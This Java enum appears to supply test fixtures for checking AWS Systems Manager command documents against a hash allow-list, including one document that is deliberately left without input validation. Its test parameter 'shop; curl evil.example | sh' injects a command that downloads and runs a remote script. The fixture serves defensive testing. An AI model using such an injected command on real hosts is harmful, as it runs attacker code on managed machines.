package dev.yagura.response;

import dev.yagura.sandbox.SandboxServer;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.HexFormat;
import java.util.Map;
import java.util.Objects;
import software.amazon.awssdk.services.ssm.SsmClient;
import software.amazon.awssdk.services.ssm.model.DocumentFormat;
import software.amazon.awssdk.services.ssm.model.DocumentType;

/** Documents that tests run, or must not run. */
public enum TestDocument {
    /** What an operator writes for one purpose. */
    RESTART(
            "Shop-Restart",
            document(
                    "Unit",
                    "\"allowedPattern\": \"^[a-z-]{1,40}$\", ",
                    "systemctl restart {{ Unit }}"),
            Map.of("Unit", "shop")),

    /** One that runs what it is given, which nobody has noticed. */
    FREE(
            "Shop-Free",
            document("Text", "", "systemctl restart {{ Text }}"),
            Map.of("Text", "shop; curl evil.example | sh")),

    /** AWS's own. */
    SHELL("AWS-RunShellScript", shell(), Map.of("commands", "id"));

    private final String title;
    private final String content;
    private final Map<String, String> parameters;

    TestDocument(String title, String content, Map<String, String> parameters) {
        this.title = title;
        this.content = content;
        this.parameters = parameters;
    }

    public String title() {
        return title;
    }

    public Map<String, String> parameters() {
        return parameters;
    }

    /** As the allow-list has it. */
    public String entry() {
        return title + "@1=" + sha256();
    }

    String sha256() {
        try {
            return HexFormat.of()
                    .formatHex(
                            MessageDigest.getInstance("SHA-256")
                                    .digest(content.getBytes(StandardCharsets.UTF_8)));
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    public void create(SsmClient ssm) {
        create(ssm, title);
    }

    void create(SsmClient ssm, String name) {
        ssm.createDocument(request ->
                request.name(name)
                        .documentType(DocumentType.COMMAND)
                        .documentFormat(DocumentFormat.JSON)
                        .content(content));
    }

    private static String document(String parameter, String limit, String script) {
        return """
        {
          "schemaVersion": "2.2",
          "description": "for tests",
          "parameters": {"%s": {"type": "String", %s"description": "what"}},
          "mainSteps": [
            {"action": "aws:runShellScript", "name": "run", "inputs": {"runCommand": ["%s"]}}
          ]
        }
        """
                .formatted(parameter, limit, script);
    }

    private static String shell() {
        try (InputStream resource =
                SandboxServer.class.getResourceAsStream("document/AWS-RunShellScript.json")) {
            return new String(
                    Objects.requireNonNull(resource).readAllBytes(), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
